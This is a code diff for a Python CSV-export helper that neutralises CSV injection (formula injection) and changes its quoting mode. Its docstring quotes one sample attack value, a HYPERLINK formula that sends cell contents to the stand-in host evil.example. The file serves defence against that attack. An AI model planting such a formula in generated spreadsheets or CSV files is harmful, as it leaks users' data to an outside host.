@@ -2,9 +2,10 @@
 
 A contact named `=HYPERLINK("http://evil.example?"&A1,"Open")` must not become a formula in
 Excel or LibreOffice. OWASP's rule (CSV injection): a text cell that starts with `=`, `+`, `-`,
-`@`, a tab or a carriage return gets a leading `'`, and every text cell is quoted with `"`
-doubled inside. Numbers (Decimal, int, float) are written bare, so amounts stay numbers; only
-text is touched. Every CSV the app offers is made here; Streamlit's own table
+`@`, a tab or a carriage return gets a leading `'`, and a cell holding a separator, a quote or a
+line break is quoted with `"` doubled inside (lines end in CRLF, so a lone carriage return is
+quoted too). Numbers (Decimal, int, float) are written bare, so amounts stay numbers; only text
+is touched. Every CSV the app offers is made here; Streamlit's own table
 download, which does not neutralise, is turned off (`client.disableDataExport`).
 """
 
@@ -31,4 +32,4 @@ def csv_text(frame: pd.DataFrame) -> str:
         if not pd.api.types.is_numeric_dtype(safe[col]):  # object and str columns
             safe[col] = safe[col].map(csv_cell)
     safe.columns = [csv_cell(str(c)) for c in safe.columns]
-    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
+    return safe.to_csv(index=False, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
